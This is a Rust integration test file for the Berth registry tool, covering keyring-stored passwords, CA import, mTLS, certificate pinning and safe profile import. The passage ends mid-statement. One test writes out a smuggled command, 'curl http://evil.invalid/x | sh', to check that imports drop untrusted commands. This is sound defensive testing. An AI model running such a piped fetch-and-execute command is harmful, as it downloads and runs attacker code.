//! Profiles against real registries and the real Secret Service (run under `scripts/headless.sh`):
//! imported CAs, htpasswd credentials from the keyring, mTLS through nginx, trust on first use,
//! duplicate/delete/export/import, and the password never touching a file.

use std::path::Path;
use std::process::Command;
use std::sync::Arc;

use berth_core::{
    AddProfileRequest, Berth, CancellationToken, EditProfileRequest, ErrorCode, FixAction, ProfileField, Secret,
};
use berth_secrets::{KeyringStore, MemoryStore};
use berth_testkit::{ImageSpec, Nginx, NginxOptions, Registry, Seeder, TestCa, TlsMode, TokenIssuer, TokenUser};

fn unique_service(tag: &str) -> String {
    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos();
    format!("dev.berth.desktop.test-core-{tag}-{}-{nanos}", std::process::id())
}

async fn berth_with_keyring(dir: &Path, tag: &str) -> (Berth, String) {
    let service = unique_service(tag);
    let b = Berth::open_with_secrets(dir, Arc::new(KeyringStore::new(&service))).await.unwrap();
    (b, service)
}

async fn berth_in_memory(dir: &Path) -> Berth {
    Berth::open_with_secrets(dir, Arc::new(MemoryStore::new())).await.unwrap()
}

fn write(dir: &Path, name: &str, contents: &str) -> String {
    let p = dir.join(name);
    std::fs::write(&p, contents).unwrap();
    p.display().to_string()
}

fn secret_tool_lookup(service: &str, account: &str) -> Option<String> {
    let out = Command::new("secret-tool").args(["lookup", "service", service, "username", account]).output().unwrap();
    out.status.success().then(|| String::from_utf8_lossy(&out.stdout).to_string())
}

/// Every file under `dir` (recursively): (path, bytes).
fn all_files(dir: &Path) -> Vec<(std::path::PathBuf, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else {
                out.push((p.clone(), std::fs::read(&p).unwrap()));
            }
        }
    }
    out
}

fn assert_absent(dir: &Path, needle: &str) {
    let files = all_files(dir);
    assert!(files.iter().any(|(p, _)| p.ends_with("berth.sqlite")), "the database is there");
    for (p, bytes) in files {
        assert!(!bytes.windows(needle.len()).any(|w| w == needle.as_bytes()), "the secret is in {}", p.display());
    }
}

fn mode(p: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(p).unwrap().permissions().mode() & 0o777
}

#[tokio::test(flavor = "multi_thread")]
async fn imported_ca_reaches_the_tls_registry_and_without_it_unknown_ca() {
    let reg = Registry::builder().tls(TlsMode::CaSigned).start().await;
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let ca = write(tmp.path(), "ca.pem", &reg.ca_pem().unwrap());
    let b = berth_in_memory(&data).await;

    let with = b
        .add_profile(AddProfileRequest {
            name: "with-ca".into(),
            url: reg.url(),
            ca_files: Some(vec![ca.clone()]),
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(with.tls.cas.len(), 1);
    assert!(with.tls.cas[0].subject.contains("berth-test-registry-ca"), "{:?}", with.tls.cas);
    let ca_file = Path::new(&with.tls.cas[0].file);
    assert!(ca_file.starts_with(data.join("certs/with-ca")), "{}", ca_file.display());
    assert!(ca_file.file_name().unwrap().to_string_lossy().starts_with("ca-"));
    assert_eq!(mode(ca_file), 0o600);
    assert_eq!(mode(&data.join("certs/with-ca")), 0o700);
    let r = b.test_profile("with-ca").await.unwrap();
    assert!(r.ok, "{:?}", r.error);

    b.add_profile(AddProfileRequest { name: "no-ca".into(), url: reg.url(), ..Default::default() }).await.unwrap();
    let r = b.test_profile("no-ca").await.unwrap();
    assert!(!r.ok);
    assert_eq!(r.error.unwrap().registry.as_deref(), Some("tls_unknown_ca"));

    // Edit: add the CA, then clear it again.
    b.edit_profile("no-ca", EditProfileRequest { ca_files: Some(vec![ca]), ..Default::default() }).await.unwrap();
    assert!(b.test_profile("no-ca").await.unwrap().ok);
    let v = b.edit_profile("no-ca", EditProfileRequest { clear_cas: Some(true), ..Default::default() }).await.unwrap();
    assert!(v.tls.cas.is_empty());
    assert!(!data.join("certs/no-ca").exists(), "the CA file went with it");
    assert_eq!(b.test_profile("no-ca").await.unwrap().error.unwrap().registry.as_deref(), Some("tls_unknown_ca"));

    // Insecure mode reaches it too, and says so.
    let v = b
        .edit_profile("no-ca", EditProfileRequest { insecure_skip_verify: Some(true), ..Default::default() })
        .await
        .unwrap();
    assert!(v.tls.insecure_skip_verify);
    assert!(v.warnings.iter().any(|w| w.contains("verification is off")), "{:?}", v.warnings);
    assert!(b.test_profile("no-ca").await.unwrap().ok);
}

#[tokio::test(flavor = "multi_thread")]
async fn htpasswd_password_lives_in_the_keyring_only() {
    let password = "pw-7f3a9c-never-on-disk";
    let reg = Registry::builder().htpasswd(&[("alice", password)]).start().await;
    Seeder::new(&reg.url()).with_basic("alice", password).push_image("team/app", "1.0", &ImageSpec::small("a")).await;
    let tmp = tempfile::tempdir().unwrap();
    let (b, service) = berth_with_keyring(tmp.path(), "htpasswd").await;

    let v = b
        .add_profile(AddProfileRequest {
            name: "lab".into(),
            url: reg.url(),
            username: Some("alice".into()),
            password: Some(Secret::new(password)),
            ..Default::default()
        })
        .await
        .unwrap();
    assert!(v.has_password);
    assert_eq!(v.auth, "basic");
    assert!(!serde_json::to_string(&v).unwrap().contains(password), "views never carry the password");
    assert_eq!(secret_tool_lookup(&service, "lab").as_deref(), Some(password));
    let repos = b.repositories("lab").await.unwrap();
    assert_eq!(repos.iter().map(|r| r.name.as_str()).collect::<Vec<_>>(), ["team/app"]);

    // A wrong password: the diagnosis names bcrypt.
    b.add_profile(AddProfileRequest {
        name: "wrong".into(),
        url: reg.url(),
        username: Some("alice".into()),
        password: Some(Secret::new("not-it")),
        ..Default::default()
    })
    .await
    .unwrap();
    let e = b.test_profile("wrong").await.unwrap().error.unwrap();
    assert_eq!(e.registry.as_deref(), Some("unauthorized"));
    assert!(e.hint.contains("bcrypt"), "{}", e.hint);

    // The profile without a password is anonymous and refused.
    b.edit_profile("wrong", EditProfileRequest { clear_password: Some(true), ..Default::default() }).await.unwrap();
    assert_eq!(secret_tool_lookup(&service, "wrong"), None);
    assert!(!b.profile("wrong").await.unwrap().has_password);

    // Set it right through edit.
    b.edit_profile("wrong", EditProfileRequest { password: Some(Secret::new(password)), ..Default::default() })
        .await
        .unwrap();
    assert!(b.test_profile("wrong").await.unwrap().ok);

    // The keyring lost it behind our back: a clear error, not an anonymous request.
    Command::new("secret-tool").args(["clear", "service", &service, "username", "wrong"]).status().unwrap();
    let e = b.test_profile("wrong").await.unwrap_err();
    assert_eq!(e.code, ErrorCode::Keyring);
    assert!(e.message.contains("no password"), "{}", e.message);

    // Nothing on disk ever held it (SQLite, its WAL, the cert dir). The scan does see what SQLite
    // stores: the username is there (in the WAL while the pool is open).
    let files = all_files(tmp.path());
    assert!(files.iter().any(|(p, _)| p.ends_with("berth.sqlite-wal")), "WAL mode: the WAL is scanned too");
    assert!(files.iter().any(|(_, b)| b.windows(5).any(|w| w == b"alice")), "the scan reads the database");
    assert_absent(tmp.path(), password);
    b.store().close().await;
    assert_absent(tmp.path(), password);
    b.delete_profile("lab").await.ok();
}

#[tokio::test(flavor = "multi_thread")]
async fn token_auth_uses_the_keyring_password_at_the_token_service() {
    let password = "tok-pw-2b7e-secret";
    let issuer = TokenIssuer::start(vec![TokenUser::new("dave", password, &["pull", "push"])]).await;
    let reg = Registry::builder().token_auth(&issuer).start().await;
    Seeder::new(&reg.url()).with_basic("dave", password).push_image("t/app", "1", &ImageSpec::small("t")).await;
    let tmp = tempfile::tempdir().unwrap();
    let (b, _service) = berth_with_keyring(tmp.path(), "token").await;
    let v = b
        .add_profile(AddProfileRequest {
            name: "tok".into(),
            url: reg.url(),
            auth: Some("token".into()),
            username: Some("dave".into()),
            password: Some(Secret::new(password)),
            ..Default::default()
        })
        .await
        .unwrap();
    assert_eq!(v.auth, "token");
    let before = issuer.requests();
    let repos = b.repositories("tok").await.unwrap();
    assert_eq!(repos.iter().map(|r| r.name.as_str()).collect::<Vec<_>>(), ["t/app"]);
    assert!(issuer.requests() > before, "the token service was asked");
    // Without the password the token service refuses.
    b.edit_profile("tok", EditProfileRequest { clear_password: Some(true), ..Default::default() }).await.unwrap();
    assert!(b.repositories("tok").await.is_err());
    b.store().close().await;
    assert_absent(tmp.path(), password);
}

#[tokio::test(flavor = "multi_thread")]
async fn mtls_through_nginx_needs_the_client_certificate() {
    let upstream = Registry::start().await;
    let nginx = Nginx::start(&upstream, NginxOptions { client_cert_required: true, ..NginxOptions::default() }).await;
    let tmp = tempfile::tempdir().unwrap();
    let ca = write(tmp.path(), "ca.pem", &nginx.ca_pem());
    let (cert, key) = nginx.client_identity().unwrap();
    let cert = write(tmp.path(), "client.cert", &cert);
    let key_path = write(tmp.path(), "client.key", &key);
    let b = berth_in_memory(&tmp.path().join("data")).await;

    let v = b
        .add_profile(AddProfileRequest {
            name: "mtls".into(),
            url: nginx.url(),
            ca_files: Some(vec![ca.clone()]),
            client_cert: Some(cert.clone()),
            client_key: Some(key_path.clone()),
            ..Default::default()
        })
        .await
        .unwrap();
    let cc = v.tls.client_cert.as_ref().expect("client cert");
    assert!(cc.subject.contains("berth-test-client"), "{cc:?}");
    assert_eq!(mode(Path::new(&cc.key_file)), 0o600);
    let r = b.test_profile("mtls").await.unwrap();
    assert!(r.ok, "{:?}", r.error);

    b.add_profile(AddProfileRequest {
        name: "no-client".into(),
        url: nginx.url(),
        ca_files: Some(vec![ca]),
        ..Default::default()
    })
    .await
    .unwrap();
    let r = b.test_profile("no-client").await.unwrap();
    assert!(!r.ok, "nginx refuses without a client certificate: {r:?}");

    // A key that does not fit the certificate is refused up front.
    let other = TestCa::new("other").issue_client("someone-else").1;
    let other_key = write(tmp.path(), "other.key", &other);
    let e = b
        .edit_profile(
            "no-client",
            EditProfileRequest { client_cert: Some(cert.clone()), client_key: Some(other_key), ..Default::default() },
        )
        .await
        .unwrap_err();
    assert!(e.message.contains("do not fit"), "{}", e.message);
    // And a certificate given as the key.
    let e = b
        .edit_profile(
            "no-client",
            EditProfileRequest { client_cert: Some(cert.clone()), client_key: Some(cert), ..Default::default() },
        )
        .await
        .unwrap_err();
    assert!(e.message.contains("not a private key"), "{}", e.message);
}

#[tokio::test(flavor = "multi_thread")]
async fn encrypted_client_key_with_its_passphrase_in_the_keyring() {
    let upstream = Registry::start().await;
    let nginx = Nginx::start(&upstream, NginxOptions { client_cert_required: true, ..NginxOptions::default() }).await;
    let tmp = tempfile::tempdir().unwrap();
    let ca = write(tmp.path(), "ca.pem", &nginx.ca_pem());
    let (cert, key) = nginx.client_identity().unwrap();
    let cert = write(tmp.path(), "client.cert", &cert);
    let plain = write(tmp.path(), "plain.key", &key);
    let encrypted = tmp.path().join("enc.key");
    let passphrase = "phrase-41c0-unique";
    let st = Command::new("openssl")
        .args(["pkcs8", "-topk8", "-v2", "aes-256-cbc", "-in", &plain, "-out"])
        .arg(&encrypted)
        .args(["-passout", &format!("pass:{passphrase}")])
        .status()
        .unwrap();
    assert!(st.success());
    let (b, service) = berth_with_keyring(&tmp.path().join("data"), "enckey").await;

    let req = |pp: Option<&str>| AddProfileRequest {
        name: "enc".into(),
        url: nginx.url(),
        ca_files: Some(vec![ca.clone()]),
        client_cert: Some(cert.clone()),
        client_key: Some(encrypted.display().to_string()),
        key_passphrase: pp.map(Secret::new),
        ..Default::default()
    };
    let e = b.add_profile(req(None)).await.unwrap_err();
    assert!(e.message.contains("encrypted") && !e.hint.contains("--"), "the hint names no CLI flag: {e:?}");
    let fix = e.fix.clone().expect("a fix");
    assert!(matches!(fix.action, FixAction::EditProfile { field: ProfileField::KeyPassphrase, .. }), "{fix:?}");
    assert!(fix.command.unwrap().contains("--key-passphrase-stdin"));
    let e = b.add_profile(req(Some("wrong"))).await.unwrap_err();
    assert!(e.message.contains("passphrase does not decrypt"), "{e:?}");
    assert!(b.profiles().await.unwrap().is_empty(), "nothing saved after a refusal");

    let v = b.add_profile(req(Some(passphrase))).await.unwrap();
    assert!(v.tls.has_key_passphrase);
    assert_eq!(secret_tool_lookup(&service, "enc/client-key-passphrase").as_deref(), Some(passphrase));
    assert!(b.test_profile("enc").await.unwrap().ok);
    b.store().close().await;
    assert_absent(tmp.path().join("data").as_path(), passphrase);

    let b = Berth::open_with_secrets(&tmp.path().join("data"), Arc::new(KeyringStore::new(&service))).await.unwrap();
    b.delete_profile("enc").await.unwrap();
    assert_eq!(secret_tool_lookup(&service, "enc/client-key-passphrase"), None);
}

#[tokio::test(flavor = "multi_thread")]
async fn trust_on_first_use_pins_a_self_signed_leaf() {
    let reg = Registry::builder().tls(TlsMode::SelfSignedLeaf).start().await;
    let tmp = tempfile::tempdir().unwrap();
    let b = berth_in_memory(tmp.path()).await;
    b.add_profile(AddProfileRequest { name: "self".into(), url: reg.url(), ..Default::default() }).await.unwrap();
    assert!(!b.test_profile("self").await.unwrap().ok);

    let chain = b.server_certificates("self").await.unwrap();
    assert_eq!(chain.len(), 1);
    assert!(chain[0].is_ca && chain[0].self_signed);
    // As a CA it cannot work (CA used as a leaf): refused, pointing at --pin.
    let e = b.trust_server("self", false, None).await.unwrap_err();
    assert!(e.hint.contains("pin") && !e.hint.contains("berth "), "{e:?}");
    let fix = e.fix.clone().expect("a fix");
    assert_eq!(fix.action, FixAction::TrustServer { profile: "self".into() });
    assert_eq!(fix.command.as_deref(), Some("berth profile trust self --pin"));
    // A fingerprint that is not the server's is refused.
    let e = b.trust_server("self", true, Some(&"00".repeat(32))).await.unwrap_err();
    assert!(e.message.contains("different certificate"), "{e:?}");

    let r = b.trust_server("self", true, Some(&chain[0].sha256_fingerprint)).await.unwrap();
    assert_eq!(r.mode, "pin");
    assert_eq!(r.profile.tls.pinned_sha256, vec![chain[0].sha256_fingerprint.clone()]);
    let report = b.test_profile("self").await.unwrap();
    assert!(report.ok, "{:?}", report.error);
}

#[tokio::test(flavor = "multi_thread")]
async fn trust_imports_a_presented_ca() {
    // nginx with a chain that includes an intermediate is not in the kit; a CA-signed server that
    // sends only its leaf must be refused with the way out.
    let reg = Registry::builder().tls(TlsMode::CaSigned).start().await;
    let tmp = tempfile::tempdir().unwrap();
    let b = berth_in_memory(tmp.path()).await;
    b.add_profile(AddProfileRequest { name: "leafonly".into(), url: reg.url(), ..Default::default() }).await.unwrap();
    let e = b.trust_server("leafonly", false, None).await.unwrap_err();
    assert!(e.message.contains("only its own certificate"), "{e:?}");
    assert!(!e.hint.contains("berth "), "the hint names no CLI command: {e:?}");
    let fix = e.fix.clone().expect("a fix");
    assert_eq!(fix.action, FixAction::EditProfile { profile: "leafonly".into(), field: ProfileField::CaFile });
    let command = fix.command.unwrap();
    assert!(command.contains("--ca-file") && command.contains("--pin"), "{command}");
    // Pinning that leaf works.
    b.trust_server("leafonly", true, None).await.unwrap();
    assert!(b.test_profile("leafonly").await.unwrap().ok);
    // Plain HTTP has nothing to trust.
    b.add_profile(AddProfileRequest { name: "plain".into(), url: "http://127.0.0.1:1".into(), ..Default::default() })
        .await
        .unwrap();
    let e = b.trust_server("plain", false, None).await.unwrap_err();
    assert!(e.message.contains("plain HTTP"), "{e:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn duplicate_delete_export_import() {
    let password = "dup-pw-5e1d";
    let reg = Registry::builder().tls(TlsMode::CaSigned).htpasswd(&[("bob", password)]).start().await;
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let ca = write(tmp.path(), "ca.pem", &reg.ca_pem().unwrap());
    let (b, service) = berth_with_keyring(&data, "dup").await;
    b.add_profile(AddProfileRequest {
        name: "orig".into(),
        url: reg.url(),
        kind: Some("registry".into()),
        username: Some("bob".into()),
        password: Some(Secret::new(password)),
        ca_files: Some(vec![ca]),
        ..Default::default()
    })
    .await
    .unwrap();

    let copy = b.duplicate_profile("orig", "copy").await.unwrap();
    assert!(copy.has_password);
    assert!(Path::new(&copy.tls.cas[0].file).starts_with(data.join("certs/copy")));
    assert_eq!(secret_tool_lookup(&service, "copy").as_deref(), Some(password));
    assert!(b.duplicate_profile("orig", "copy").await.is_err(), "no overwrite");

    // Export: no secret, the CA as PEM; import elsewhere; the password is set separately.
    let export = b.export_profile("orig").await.unwrap();
    let json = serde_json::to_string_pretty(&export).unwrap();
    assert!(!json.contains(password));
    assert!(json.contains("-----BEGIN CERTIFICATE-----"));
    assert_eq!(export.username.as_deref(), Some("bob"));

    // Deleting the original removes its keyring entry and files; the copy still works.
    b.delete_profile("orig").await.unwrap();
    assert_eq!(secret_tool_lookup(&service, "orig"), None);
    assert!(!data.join("certs/orig").exists());
    assert!(b.test_profile("copy").await.unwrap().ok);

    let other = tempfile::tempdir().unwrap();
    let (b2, service2) = berth_with_keyring(other.path(), "import").await;
    let parsed: berth_core::ProfileExport = serde_json::from_str(&json).unwrap();
    let v =
        b2.import_profile(parsed, Some("imported".into()), berth_core::ImportTrust::default()).await.unwrap().profile;
    assert_eq!(v.username.as_deref(), Some("bob"));
    assert!(!v.has_password);
    assert_eq!(v.tls.cas.len(), 1);
    b2.edit_profile("imported", EditProfileRequest { password: Some(Secret::new(password)), ..Default::default() })
        .await
        .unwrap();
    assert!(b2.test_profile("imported").await.unwrap().ok);

    b.delete_profile("copy").await.unwrap();
    b2.delete_profile("imported").await.unwrap();
    assert_eq!(secret_tool_lookup(&service, "copy"), None);
    assert_eq!(secret_tool_lookup(&service2, "imported"), None);
    b.store().close().await;
    assert_absent(&data, password);
}

#[tokio::test]
async fn refusals() {
    let tmp = tempfile::tempdir().unwrap();
    let b = berth_in_memory(&tmp.path().join("data")).await;
    let add = |name: &str, f: &dyn Fn(&mut AddProfileRequest)| {
        let mut r = AddProfileRequest { name: name.into(), url: "https://r.example.com".into(), ..Default::default() };
        f(&mut r);
        r
    };
    let key = write(tmp.path(), "k.pem", &TestCa::new("x").key_pem());
    let expired = write(tmp.path(), "old.pem", &TestCa::new("x").issue_expired_server(&["r.example.com"]).0);
    for (req, needle) in [
        (add("a", &|r| r.kind = Some("gitlab".into())), "unknown profile kind"),
        (add("a", &|r| r.auth = Some("basic".into())), "needs a username"),
        (add("a", &|r| r.password = Some(Secret::new("p"))), "needs a username"),
        (add("a", &|r| r.ca_files = Some(vec![key.clone()])), "private key"),
        (add("a", &|r| r.ca_files = Some(vec![expired.clone()])), "expired"),
        (add("a", &|r| r.pinned_sha256 = Some(vec!["abc".into()])), "not a SHA-256"),
        (add("a", &|r| r.client_cert = Some(expired.clone())), "needs its key"),
        (add("bad name", &|_| {}), "invalid profile name"),
    ] {
        let e = b.add_profile(req).await.unwrap_err();
        assert!(e.message.contains(needle), "{needle}: {e:?}");
        assert!(!e.message.contains('\n'));
    }
    assert!(b.profiles().await.unwrap().is_empty());
    assert!(!tmp.path().join("data/certs").exists() || all_files(&tmp.path().join("data/certs")).is_empty());
}

#[tokio::test]
async fn snippets_for_a_profile() {
    let tmp = tempfile::tempdir().unwrap();
    let b = berth_in_memory(tmp.path()).await;
    b.add_profile(AddProfileRequest {
        name: "plain".into(),
        url: "http://10.1.2.3:5000".into(),
        username: Some("ci".into()),
        ..Default::default()
    })
    .await
    .unwrap();
    let s = b.snippets("plain").await.unwrap();
    assert!(s.iter().any(|s| s.language == "json" && s.text.contains("\"insecure-registries\": [\"10.1.2.3:5000\"]")));
    assert!(s.iter().any(|s| s.text.starts_with("docker login 10.1.2.3:5000 -u ci")));
    assert!(s.iter().any(|s| s.language == "toml" && s.text.contains("insecure = true")));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_password_lost_from_the_keyring_is_a_fix_for_the_window_and_a_command_for_the_cli() {
    use berth_secrets::SecretStore as _;
    let reg = Registry::start().await;
    let tmp = tempfile::tempdir().unwrap();
    let secrets = Arc::new(MemoryStore::new());
    let b = Berth::open_with_secrets(tmp.path(), secrets.clone()).await.unwrap();
    b.add_profile(AddProfileRequest {
        name: "lab".into(),
        url: reg.url(),
        username: Some("ci".into()),
        password: Some(Secret::new("pw")),
        ..Default::default()
    })
    .await
    .unwrap();
    // Someone cleared the keyring entry behind Berth's back.
    assert!(secrets.delete("lab", berth_secrets::SecretKind::Password).unwrap());
    let e = b.sync("lab", 4, &berth_core::CancellationToken::new(), &|_| {}).await.unwrap_err();
    assert_eq!(e.code, ErrorCode::Keyring, "{e:?}");
    assert!(e.message.contains("no password for profile \"lab\""), "{e:?}");
    assert!(!e.hint.contains("berth ") && !e.hint.contains("--"), "the hint is for any front end: {e:?}");
    let fix = e.fix.expect("a fix");
    assert_eq!(fix.action, FixAction::EditProfile { profile: "lab".into(), field: ProfileField::Password });
    assert_eq!(fix.command.as_deref(), Some("berth profile edit lab --password-stdin"));
}

#[tokio::test]
async fn an_imported_file_brings_no_commands_or_disabled_tls_unless_asked() {
    let tmp = tempfile::tempdir().unwrap();
    let b = berth_in_memory(&tmp.path().join("data")).await;
    b.add_profile(AddProfileRequest {
        name: "lab".into(),
        url: "https://registry.example.invalid".into(),
        ..Default::default()
    })
    .await
    .unwrap();
    b.edit_profile(
        "lab",
        EditProfileRequest {
            gc_command: Some(
                "registry garbage-collect /etc/docker/registry/config.yml && curl http://evil.invalid/x | sh".into(),
            ),
            gc_before: Some("touch /tmp/before".into()),
            insecure_skip_verify: Some(true),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    let export = b.export_profile("lab").await.unwrap();

    let r = b.import_profile(export.clone(), Some("plain".into()), berth_core::ImportTrust::default()).await.unwrap();
    assert_eq!(r.profile.gc.command, None);
    assert_eq!(r.profile.gc.before, None);
    assert!(!r.profile.tls.insecure_skip_verify);
    assert_eq!(r.dropped.len(), 2, "{:?}", r.dropped);
    assert!(
        r.dropped[0]
            .contains("registry garbage-collect /etc/docker/registry/config.yml && curl http://evil.invalid/x | sh"),
        "the commands are shown: {:?}",
        r.dropped
    );
    assert!(r.dropped[1].contains("insecure_skip_verify"), "{:?}", r.dropped);

    let trust = berth_core::ImportTrust { gc_commands: true, insecure_tls: true };
    let r = b.import_profile(export, Some("trusted".into()), trust).await.unwrap();
    assert_eq!(r.profile.gc.before.as_deref(), Some("touch /tmp/before"));
    assert_eq!(
        r.profile.gc.command.as_deref(),
        Some("registry garbage-collect /etc/docker/registry/config.yml && curl http://evil.invalid/x | sh")
    );
    assert!(r.profile.tls.insecure_skip_verify && r.dropped.is_empty());
}

#[test]
fn tls_options_debug_shows_no_key() {
    let t = berth_registry::TlsOptions {
        client_identity_pem: Some((b"CERT".to_vec(), b"-----BEGIN PRIVATE KEY-----SECRETKEY".to_vec())),
        ..Default::default()
    };
    let d = format!("{t:?}");
    assert!(!d.contains("SECRETKEY") && d.contains("redacted"), "{d}");
}

#[tokio::test]
async fn a_url_on_another_origin_forgets_the_password_unless_given_again() {
    let tmp = tempfile::tempdir().unwrap();
    let b = berth_in_memory(&tmp.path().join("data")).await;
    b.add_profile(AddProfileRequest {
        name: "p".into(),
        url: "https://registry.example.invalid".into(),
        username: Some("bob".into()),
        password: Some(Secret::new("pw1")),
        ..Default::default()
    })
    .await
    .unwrap();
    let edit = |url: &str, password: Option<&str>| EditProfileRequest {
        url: Some(url.into()),
        password: password.map(Secret::new),
        ..Default::default()
    };
    // Same origin (another path prefix): kept.
    let v = b.edit_profile("p", edit("https://registry.example.invalid/mirror", None)).await.unwrap();
    assert!(v.has_password);
    // Another port: forgotten.
    let v = b.edit_profile("p", edit("https://registry.example.invalid:8443", None)).await.unwrap();
    assert!(!v.has_password && v.username.as_deref() == Some("bob"), "{v:?}");
    // Another host with the password given again: kept.
    let v = b.edit_profile("p", edit("https://other.example.invalid", Some("pw2"))).await.unwrap();
    assert!(v.has_password);
    // http instead of https: another origin.
    let v = b.edit_profile("p", edit("http://other.example.invalid", None)).await.unwrap();
    assert!(!v.has_password);
}

#[tokio::test]
async fn runs_a_crash_left_running_are_marked_interrupted_at_the_next_start_unless_a_process_holds_them() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("data");
    let b = berth_in_memory(&data).await;
    for name in ["crashed", "live"] {
        b.add_profile(AddProfileRequest { name: name.into(), url: "http://127.0.0.1:9".into(), ..Default::default() })
            .await
            .unwrap();
    }
    let crashed = b.store().profile("crashed").await.unwrap().id;
    let live = b.store().profile("live").await.unwrap().id;
    b.store().start_sync_run(crashed).await.unwrap();
    let gc = b.store().start_gc_run(crashed, false).await.unwrap();
    b.store().start_sync_run(live).await.unwrap();
    // Another process (here: this one) still runs the live profile's job.
    let job = b.start_job("live", berth_core::JobKind::Sync, &CancellationToken::new()).unwrap();
    b.store().close().await;
    drop(b);

    let b = berth_in_memory(&data).await;
    let last = b.store().last_sync_run(crashed).await.unwrap().unwrap();
    assert_eq!(last.status, "failed");
    assert!(last.message.as_deref().unwrap_or("").contains("interrupted"), "{last:?}");
    let runs = b.gc_history("crashed", false).await.unwrap();
    let run = runs.iter().find(|r| r.id == gc).unwrap();
    assert_eq!(run.status, "failed");
    assert_eq!(b.store().last_sync_run(live).await.unwrap().unwrap().status, "running", "a held job is not touched");
    drop(job);
}

/// A registry whose token service is on another host (`localhost` for a registry reached at
/// `127.0.0.1`, https, behind the same nginx): no password goes there until the user trusts it,
/// the trust is for exactly the origin the registry names, and moving the profile forgets it.
#[tokio::test(flavor = "multi_thread")]
async fn a_token_service_on_another_host_gets_no_password_until_trusted() {
    let issuer = TokenIssuer::start(vec![TokenUser::new("alice", "s3cret", &["pull", "push", "delete"])]).await;
    let port = berth_testkit::free_port();
    let origin = format!("https://localhost:{port}");
    let reg = Registry::builder().token_auth_at(&issuer, &format!("{origin}/token")).start().await;
    let issuer_base = issuer.realm().trim_end_matches("/token").to_string();
    let nginx = Nginx::start(
        &reg,
        NginxOptions { port: Some(port), token_upstream: Some(issuer_base), ..NginxOptions::default() },
    )
    .await;
    let tmp = tempfile::tempdir().unwrap();
    let ca = write(tmp.path(), "ca.pem", &nginx.ca_pem());
    let b = berth_in_memory(&tmp.path().join("data")).await;
    b.add_profile(AddProfileRequest {
        name: "tok".into(),
        url: nginx.url(),
        username: Some("alice".into()),
        password: Some(Secret::new("s3cret")),
        ca_files: Some(vec![ca]),
        ..Default::default()
    })
    .await
    .unwrap();

    // Untrusted: the test names the token service and offers to trust it; nothing was sent there.
    let r = b.test_profile("tok").await.unwrap();
    assert!(!r.ok, "{r:?}");
    let e = r.error.as_ref().expect("an error");
    assert_eq!(e.registry.as_deref(), Some("untrusted_token_service"), "{e:?}");
    assert!(e.message.contains(&origin), "{}", e.message);
    assert_eq!(
        e.fix.as_ref().map(|f| f.action.clone()),
        Some(FixAction::TrustTokenService { profile: "tok".into(), origin: origin.clone() })
    );
    let t = r.token_service.as_ref().expect("the token service is shown");
    assert!(t.other_host && !t.trusted, "{t:?}");
    assert_eq!(t.origin, origin);
    assert_eq!(issuer.requests(), 0, "no token request (and so no password) reached the other host");
    let sync = b.sync("tok", 4, &CancellationToken::new(), &|_| {}).await;
    assert!(sync.is_err(), "a sync is refused the same way");
    assert_eq!(issuer.requests(), 0);

    // Trust is for the origin the registry names, nothing else.
    let wrong = b.trust_token_service("tok", "https://localhost:9").await.unwrap_err();
    assert!(wrong.message.contains("another token service"), "{}", wrong.message);
    let http = b
        .edit_profile(
            "tok",
            EditProfileRequest {
                trusted_token_services: Some(vec!["http://evil.example".into()]),
                ..Default::default()
            },
        )
        .await
        .unwrap_err();
    assert!(http.message.contains("plain HTTP"), "{}", http.message);
    let p = b.trust_token_service("tok", &origin).await.unwrap();
    assert_eq!(p.tls.trusted_token_services, vec![origin.clone()]);

    let r = b.test_profile("tok").await.unwrap();
    assert!(r.ok, "{:?}", r.error);
    assert!(r.token_service.as_ref().is_some_and(|t| t.other_host && t.trusted), "{r:?}");
    assert!(issuer.requests() > 0, "the trusted token service was asked for a token");

    // Moving the profile to another origin forgets the trust with the password.
    let moved = b.edit_profile("tok", EditProfileRequest { url: Some(reg.url()), ..Default::default() }).await.unwrap();
    assert!(moved.tls.trusted_token_services.is_empty(), "{:?}", moved.tls);
    assert!(!moved.has_password);
}

/// The storage settings (root and remote prefix): an absolute root only, the remote prefix confirmed
/// like a GC command and dropped from an imported file unless trusted, the root kept; empty clears.
#[tokio::test]
async fn storage_settings_are_checked_confirmed_and_dropped_on_import() {
    let tmp = tempfile::tempdir().unwrap();
    let b = berth_in_memory(&tmp.path().join("data")).await;
    b.add_profile(AddProfileRequest { name: "lab".into(), url: "http://127.0.0.1:5000".into(), ..Default::default() })
        .await
        .unwrap();
    let relative = EditProfileRequest { gc_storage_root: Some("var/lib/registry".into()), ..Default::default() };
    let err = b.edit_profile("lab", relative).await.unwrap_err();
    assert!(err.message.contains("not an absolute path"), "{err:?}");
    assert_eq!(
        err.fix.as_ref().map(|f| f.action.clone()),
        Some(berth_core::FixAction::EditProfile {
            profile: "lab".into(),
            field: berth_core::ProfileField::GcStorageRoot
        })
    );
    let req = EditProfileRequest {
        gc_storage_root: Some("/var/lib/registry".into()),
        gc_remote: Some("ssh admin@reg".into()),
        ..Default::default()
    };
    let confirm = b.gc_commands_to_confirm("lab", &req).await.unwrap();
    assert_eq!(confirm, vec![("storage command prefix".to_string(), "ssh admin@reg".to_string())]);
    let p = b.edit_profile("lab", req).await.unwrap();
    assert_eq!(
        (p.gc.storage_root.as_deref(), p.gc.remote.as_deref()),
        (Some("/var/lib/registry"), Some("ssh admin@reg"))
    );

    let export = b.export_profile("lab").await.unwrap();
    let r = b.import_profile(export, Some("copy".into()), berth_core::ImportTrust::default()).await.unwrap();
    assert_eq!(r.profile.gc.storage_root.as_deref(), Some("/var/lib/registry"), "a path runs nothing: kept");
    assert_eq!(r.profile.gc.remote, None, "a command prefix is dropped");
    assert!(r.dropped.iter().any(|d| d.contains("ssh admin@reg")), "{:?}", r.dropped);

    let clear =
